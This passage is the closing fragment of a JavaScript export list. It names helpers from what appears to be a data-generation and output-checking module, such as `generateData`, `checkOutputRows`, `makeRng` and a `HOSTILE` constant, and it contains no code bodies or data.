  OUTPUT_RULE_KEYS,
  HOSTILE,
  LONG_DESCRIPTION_LENGTH,
  OFFSETS_BY_ID_MOD_6,
  generateData,
  checkOutputRows,
  outputRowCount,
  makeRng,
  isoDate,
  isoDateTime,
};
